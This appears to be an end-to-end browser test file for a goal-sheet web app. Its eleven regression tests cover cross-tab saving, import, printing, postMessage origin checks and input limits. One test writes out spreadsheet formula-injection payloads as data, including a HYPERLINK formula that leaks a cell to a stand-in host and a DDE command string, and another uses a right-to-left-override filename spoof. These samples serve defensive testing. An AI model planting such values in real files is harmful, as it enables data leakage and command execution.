// Never lose or scramble a manager's work: the eleven faults of issue 15, each
// as the probe that found it. Written to fail on the release before the fix
// (run with GOALFRAMES_DIST=<that release's dist>), and to pass after it.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFile, mkdtemp, writeFile, copyFile } from 'node:fs/promises';
import { execFileSync } from 'node:child_process';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import {
  open, goto, dist, launch, serveAndLaunch, eventually, expectValue, expectCount, expectUrl,
} from './harness.mjs';

const PROFILE = '#family=database-engineering&level=P4';

let server, browser;
serveAndLaunch((s, b) => {
  server = s;
  browser = b;
});

const slot = (page, name) => page.getByRole('textbox', { name, exact: true }).first();
const stored = (page) => page.evaluate(() =>
  Object.fromEntries(Object.entries(localStorage).filter(([k]) => k.startsWith('goalframes:sheet:')).map(([k, v]) => [k, JSON.parse(v)])));

/** A sheet file as a colleague's machine wrote it. */
function sheetFile(fields = {}) {
  return {
    schema: 'goalframes.sheet/1', id: 'shared', family: 'database-engineering', level: 'P4',
    values: { 'smart-1': { target: 'from the file' } }, canon_version: '2026.11-sample',
    created: '2026-11-01T00:00:00.000Z', updated: '2026-11-01T00:00:00.000Z',
    ...fields,
  };
}

/** Imports a sheet file through the file picker and answers the dialog with `choice`. */
async function importFile(page, name, content, choice = 'Import') {
  const [chooser] = await Promise.all([
    page.waitForEvent('filechooser'),
    page.getByText('Import a sheet (.json)').click(),
  ]);
  await chooser.setFiles({ name, mimeType: 'application/json', buffer: Buffer.isBuffer(content) ? content : Buffer.from(content) });
  await page.getByRole('dialog').getByRole('button', { name: choice, exact: true }).click();
}

test('1. an edit after importing a sheet from a fast clock is kept, with a second tab open', async () => {
  const { context, page: a, errors } = await open(browser, server);
  await goto(a, server);
  const future = sheetFile({ edited: { 'smart-1/target': '9999-12-31T00:00:00.000Z' } });
  await importFile(a, 'future.json', JSON.stringify(future));
  await a.getByRole('heading', { level: 1, name: /Database Engineering/ }).waitFor();
  const b = await context.newPage();
  await b.goto(await expectUrl(a, /&sheet=/));
  await expectValue(slot(b, 'Target, SMART goal 1'), 'from the file');
  // Type key by key; after each key the input keeps what was typed.
  const input = slot(a, 'Target, SMART goal 1');
  await input.fill('');
  for (const text of ['m', 'mi', 'min', 'mine']) {
    await input.press(text.at(-1));
    await expectValue(input, text);
  }
  await eventually(() => stored(a), (s) => s['goalframes:sheet:shared']?.values['smart-1']?.target === 'mine', 'storage holds the edit');
  await expectValue(slot(b, 'Target, SMART goal 1'), 'mine');
  await a.reload();
  await expectValue(slot(a, 'Target, SMART goal 1'), 'mine');
  assert.deepEqual(errors, []);
  await context.close();
});

test('2. "Replace" on import replaces in every open tab, never a mix', async () => {
  const { context, page: a, errors } = await open(browser, server);
  await goto(a, server, PROFILE);
  // A sheet typed here (its slots carry this browser's edit times), open in two tabs.
  await slot(a, 'Target, SMART goal 1').fill('old');
  await slot(a, 'Date, SMART goal 1').fill('old date');
  await a.getByRole('textbox', { name: 'Person' }).fill('Old name');
  const saved = await eventually(() => stored(a), (s) => Object.values(s)[0]?.person === 'Old name', 'saved');
  const id = Object.values(saved)[0].id;
  const b = await context.newPage();
  await b.goto(await expectUrl(a, /&sheet=/));
  await expectValue(slot(b, 'Target, SMART goal 1'), 'old');
  // A colleague's file with the same id replaces it.
  await goto(a, server);
  const replacement = sheetFile({ id, person: 'New name', values: { 'smart-1': { target: 'new' } } });
  await importFile(a, 'replacement.json', JSON.stringify(replacement), 'Replace');
  for (const page of [a, b]) {
    await expectValue(slot(page, 'Target, SMART goal 1'), 'new');
    await expectValue(slot(page, 'Date, SMART goal 1'), '');
    await expectValue(page.getByRole('textbox', { name: 'Person' }), 'New name');
  }
  const after = Object.values(await stored(a))[0];
  assert.equal(after.person, 'New name');
  assert.deepEqual(after.values, { 'smart-1': { target: 'new' } });
  assert.deepEqual(errors, []);
  await context.close();
});

test('3. CSV cells that a spreadsheet would run are written as text', async () => {
  const { context, page, errors } = await open(browser, server);
  await goto(page, server, PROFILE);
  const payloads = ['=1+1', '+2+3', '-4+5', '@SUM(1+1)', '=HYPERLINK("http://x.example/?leak="&A2,"click")'];
  const names = ['Target, SMART goal 1', 'Target, SMART goal 2', 'Target, SMART goal 3', 'Target, SMART goal 4', 'Target, SMART goal 5'];
  for (const [i, value] of payloads.entries()) await slot(page, names[i]).fill(value);
  await page.getByRole('textbox', { name: 'Person' }).fill('=cmd|"/c calc"!A1');
  await eventually(() => stored(page), (s) => Object.values(s)[0]?.person === '=cmd|"/c calc"!A1', 'saved');
  const [file] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('group', { name: 'Export this sheet' }).getByRole('button', { name: 'CSV (.csv)', exact: true }).click(),
  ]);
  const csv = await readFile(await file.path(), 'utf8');
  for (const value of payloads) {
    assert.ok(!csv.includes(`,${value},`) && !csv.includes(`,"${value.replaceAll('"', '""')}"`), `${value} is not a bare cell`);
  }
  // LibreOffice Calc reads the file and shows every value as text: nothing is computed.
  const dir = await mkdtemp(join(tmpdir(), 'csv-'));
  await writeFile(join(dir, 'sheet.csv'), csv);
  execFileSync('soffice', ['--headless', '--infilter=CSV:44,34,76,1', '--convert-to', 'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false', '--outdir', join(dir, 'out'), join(dir, 'sheet.csv')], { stdio: 'ignore', timeout: 120000 });
  const calc = await readFile(join(dir, 'out', 'sheet.csv'), 'utf8');
  assert.ok(!/(^|,)(2|5|1)(,|$)/m.test(calc.split('\n').slice(1).join('\n').replaceAll(/"[^"]*"/g, '""')), `no computed result in: ${calc.slice(0, 400)}`);
  for (const value of payloads) assert.ok(calc.includes(value.replaceAll('"', '""')) || calc.includes(value), `${value} shown as text by Calc`);
  assert.deepEqual(errors, []);
  await context.close();
});

test('4. print: long and unbroken values print in full, tables fit A4 and Letter', async () => {
  const { context, page, errors } = await open(browser, server);
  await goto(page, server, PROFILE);
  const person = 'Maximiliana Wolfeschlegelsteinhausenbergerdorff-Featherstonehaugh-Cholmondeley';
  const period = 'Fiscal year 2026 second half, including the extended review window for the platform migration';
  const long = 'Reduce '.concat('the p95 latency of every customer-facing query '.repeat(5)).slice(0, 200);
  const unbroken = 'x'.repeat(30) + 'UNBROKEN' + 'y'.repeat(25);
  await page.getByRole('textbox', { name: 'Person' }).fill(person);
  await page.getByRole('textbox', { name: 'Period', exact: true }).fill(period);
  await slot(page, 'Target, SMART goal 1').fill(long);
  await slot(page, 'Target, MBO area 2').fill(unbroken);
  await slot(page, 'Date, MBO area 2').fill('2026-12-31');
  await eventually(() => stored(page), (s) => Object.values(s)[0]?.values['mbo-2']?.date === '2026-12-31', 'saved');
  const dir = await mkdtemp(join(tmpdir(), 'print-'));
  for (const format of ['A4', 'Letter']) {
    await page.emulateMedia({ media: 'print' });
    await writeFile(join(dir, `${format}.pdf`), await page.pdf({ format }));
    await page.emulateMedia({ media: 'screen' });
    const text = execFileSync('pdftotext', ['-raw', join(dir, `${format}.pdf`), '-'], { encoding: 'utf8' });
    const joined = text.replace(/-?\n/g, '').replace(/\s+/g, ' ');
    const squeezed = text.replace(/\s+/g, '');
    for (const value of [person, period, long]) {
      assert.ok(joined.includes(value) || squeezed.includes(value.replace(/\s+/g, '')), `${format}: "${value.slice(0, 30)}…" in full`);
    }
    assert.ok(squeezed.includes(unbroken), `${format}: the unbroken value in full`);
    assert.ok(squeezed.includes('2026-12-31'), `${format}: the MBO Due column`);
  }
  // Nothing runs past the page's right edge.
  await page.emulateMedia({ media: 'print' });
  const overflow = await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
  await page.emulateMedia({ media: 'screen' });
  assert.ok(overflow <= 0, `printed page is ${overflow}px too wide`);
  assert.deepEqual(errors, []);
  await context.close();
});

test('5. origin=null: a portal opened from disk talks to the panel both ways, and only its parent is heard', async () => {
  const dir = await mkdtemp(join(tmpdir(), 'portal-'));
  await copyFile(join(dist, 'goalframes.html'), join(dir, 'goalframes.html'));
  await writeFile(join(dir, 'portal.html'), `<!doctype html><meta charset="utf-8"><title>disk portal</title>
    <iframe id="panel" src="goalframes.html#family=database-engineering&level=P4&origin=null"></iframe>
    <iframe id="widget" sandbox="allow-scripts" srcdoc="<script>
      onmessage = (e) => { if (e.data === 'go') parent.frames[0].postMessage({ type: 'goalframes:open', family: 'payroll', level: 'S3' }, '*'); };
    </script>"></iframe>
    <script>
      window.received = [];
      addEventListener('message', (e) => { if (e.source === document.getElementById('panel').contentWindow) window.received.push(e.data); });
    </script>`);
  const context = await browser.newContext();
  const page = await context.newPage();
  await page.goto(pathToFileURL(join(dir, 'portal.html')).href);
  await page.waitForFunction(() => window.received.some((m) => m.type === 'goalframes:ready'), undefined, { polling: 100 });
  const panel = page.frameLocator('#panel');
  await panel.getByRole('heading', { level: 1, name: 'Goal templates — Database Engineering — P4' }).waitFor();
  // A sandboxed widget on the same page (also origin null) cannot drive the panel.
  await page.evaluate(() => document.getElementById('widget').contentWindow.postMessage('go', '*'));
  // The parent can.
  await page.evaluate(() => document.getElementById('panel').contentWindow.postMessage({ type: 'goalframes:get-sheet' }, '*'));
  await page.waitForFunction(() => window.received.some((m) => m.type === 'goalframes:sheet'), undefined, { polling: 100 });
  await panel.getByRole('heading', { level: 1, name: 'Goal templates — Database Engineering — P4' }).waitFor();
  const title = await page.frame({ url: /goalframes\.html/ }).evaluate(() => document.querySelector('h1').textContent);
  assert.equal(title, 'Goal templates — Database Engineering — P4', 'the widget changed nothing');
  await page.evaluate(() => document.getElementById('panel').contentWindow.postMessage({ type: 'goalframes:open', family: 'payroll', level: 'S3' }, '*'));
  await panel.getByRole('heading', { level: 1, name: 'Goal templates — Payroll Specialist' }).waitFor();
  await context.close();
});

test('6. an oversized message is refused before it reaches wasm memory', async () => {
  // A browser of its own: 192 MB of messages should not weigh on the next tests.
  const own = await launch();
  const dir = await mkdtemp(join(tmpdir(), 'portal-'));
  await copyFile(join(dist, 'goalframes.html'), join(dir, 'goalframes.html'));
  await writeFile(join(dir, 'portal.html'), `<!doctype html><meta charset="utf-8"><title>portal</title>
    <iframe id="panel" src="goalframes.html#family=database-engineering&level=P4&origin=null"></iframe>
    <script>window.received = []; addEventListener('message', (e) => window.received.push(e.data));</script>`);
  const context = await own.newContext();
  const page = await context.newPage();
  await page.goto(pathToFileURL(join(dir, 'portal.html')).href);
  await page.waitForFunction(() => window.received.some((m) => m.type === 'goalframes:ready'), undefined, { polling: 100 });
  const frame = page.frame({ url: /goalframes\.html/ });
  await frame.waitForFunction(() => typeof globalThis.goalframesMemoryBytes === 'number');
  const before = await frame.evaluate(() => globalThis.goalframesMemoryBytes);
  for (let i = 0; i < 3; i++) {
    await page.evaluate(() => document.getElementById('panel').contentWindow.postMessage(
      { type: 'goalframes:open', family: 'x'.repeat(64 * 1024 * 1024), level: 'P4' }, '*'));
  }
  await page.waitForFunction(() => window.received.filter((m) => m.type === 'goalframes:error').length >= 3, undefined, { polling: 100, timeout: 60000 });
  const after = await frame.evaluate(() => globalThis.goalframesMemoryBytes);
  assert.ok(after - before < 4 * 1024 * 1024, `wasm memory grew from ${before} to ${after} bytes`);
  await context.close();
  await own.close();
});

test('7. leaving with unsaved work asks first', async () => {
  const { context, page } = await open(browser, server);
  await goto(page, server, PROFILE);
  await page.evaluate(() => {
    Storage.prototype.setItem = function () {
      throw new DOMException('full', 'QuotaExceededError');
    };
  });
  await slot(page, 'Target, SMART goal 1').fill('only in this tab');
  await page.getByRole('alert').filter({ hasText: 'Not saved: browser storage is full' }).waitFor();
  const asked = new Promise((resolve) => page.on('dialog', (d) => { resolve(d.type()); d.accept(); }));
  await page.close({ runBeforeUnload: true });
  const none = new Promise((resolve) => setTimeout(() => resolve('no prompt'), 5000));
  assert.equal(await Promise.race([asked, none]), 'beforeunload');
  await context.close();
});

test('8. the same slot typed in two tabs ends as one tab’s whole text in both', async () => {
  const { context, page: a, errors } = await open(browser, server);
  await goto(a, server, PROFILE);
  await slot(a, 'Target, SMART goal 1').fill('');
  await slot(a, 'Baseline, SMART goal 1').fill('start');
  const b = await context.newPage();
  await b.goto(await expectUrl(a, /&sheet=/));
  await expectValue(slot(b, 'Baseline, SMART goal 1'), 'start');
  const inA = slot(a, 'Target, SMART goal 1');
  const inB = slot(b, 'Target, SMART goal 1');
  await inA.focus();
  await inB.focus();
  for (let i = 0; i < 6; i++) {
    await inA.press('a');
    await inB.press('b');
  }
  const typedA = await inA.inputValue();
  const typedB = await inB.inputValue();
  assert.ok(!/ab.*a|ba.*b/.test(typedA) && !/ab.*a|ba.*b/.test(typedB), `no input interleaves: ${typedA} / ${typedB}`);
  await inA.blur();
  await inB.blur();
  const final = await eventually(
    async () => [await inA.inputValue(), await inB.inputValue(), Object.values(await stored(a))[0].values['smart-1'].target],
    ([x, y, z]) => x === y && y === z,
    'both tabs and storage agree',
  );
  assert.ok(final[0] === typedA || final[0] === typedB, `one tab's whole text: ${final[0]} (typed ${typedA} / ${typedB})`);
  assert.deepEqual(errors, []);
  await context.close();
});

test('9. a sheet saved with a UTF-8 byte-order mark imports', async () => {
  const { context, page, errors } = await open(browser, server);
  await goto(page, server);
  const bytes = Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(JSON.stringify(sheetFile({ id: 'notepad' })))]);
  await importFile(page, 'notepad.json', bytes);
  await expectValue(slot(page, 'Target, SMART goal 1'), 'from the file');
  assert.deepEqual(errors, []);
  await context.close();
});

test('10. entry limits count every kind of entry and bound key lengths', async () => {
  const { context, page, errors } = await open(browser, server);
  await goto(page, server);
  const empties = Object.fromEntries(Array.from({ length: 18000 }, (_, i) => [`i${i}`, {}]));
  const cases = [
    ['empties.json', sheetFile({ id: 'empties', values: empties }), /too many entries/],
    ['longkey.json', sheetFile({ id: 'longkey', values: { ['k'.repeat(200 * 1024)]: { target: 'x' } } }), /too large|bad key/],
  ];
  for (const [name, sheet, message] of cases) {
    const [chooser] = await Promise.all([
      page.waitForEvent('filechooser'),
      page.getByText('Import a sheet (.json)').click(),
    ]);
    await chooser.setFiles({ name, mimeType: 'application/json', buffer: Buffer.from(JSON.stringify(sheet)) });
    const alert = page.getByRole('alert').filter({ hasText: `Could not import “${name}”` });
    await alert.waitFor();
    assert.match(await alert.textContent(), message);
    await expectCount(page.getByRole('dialog'), 0);
  }
  assert.deepEqual(await stored(page), {});
  assert.deepEqual(errors, []);
  await context.close();
});

test('11. faint accents are ignored, bidi overrides are refused, another tab’s delete is a notice that keeps the values', async () => {
  // a. A transparent or faint accent would hide links: ignored.
  for (const accent of ['transparent', '%23ffffff', '%23fafafa']) {
    const { context, page } = await open(browser, server);
    await goto(page, server, `${PROFILE}&accent=${accent}`);
    const colour = await page.getByRole('link', { name: 'All profiles' }).evaluate((a) => getComputedStyle(a).color);
    assert.equal(colour, 'rgb(11, 92, 173)', `${accent}: the default accent`);
    await context.close();
  }
  // b. A right-to-left override in a value or a name is refused with a message.
  const { context, page: a, errors } = await open(browser, server);
  await goto(a, server, PROFILE);
  await slot(a, 'Target, SMART goal 1').fill('evil\u202Etxt.exe');
  await a.getByRole('alert').filter({ hasText: 'bidirectional control characters' }).waitFor();
  await a.getByRole('textbox', { name: 'Person' }).fill('Ada\u202E');
  await a.getByRole('alert').filter({ hasText: 'bidirectional control characters' }).nth(1).waitFor();
  await slot(a, 'Target, SMART goal 1').fill('kept value');
  await a.getByRole('textbox', { name: 'Person' }).fill('Ada');
  await eventually(() => stored(a), (s) => Object.values(s)[0]?.values['smart-1']?.target === 'kept value', 'saved');
  // c. Deleted in another tab: this tab says so and can keep its values.
  const b = await context.newPage();
  await goto(b, server);
  const sheets = b.getByRole('region', { name: 'Your sheets' });
  await sheets.getByRole('button', { name: 'Delete Ada' }).click();
  await sheets.getByRole('button', { name: 'Confirm delete Ada' }).click();
  await a.getByRole('alert').filter({ hasText: '“Ada” was deleted in another tab' }).waitFor();
  await a.getByRole('button', { name: 'Keep “Ada”' }).click();
  await eventually(() => stored(a), (s) => Object.values(s)[0]?.values['smart-1']?.target === 'kept value', 'kept again');
  await sheets.getByRole('link', { name: 'Ada' }).waitFor();
  assert.deepEqual(errors, []);
  await context.close();
});
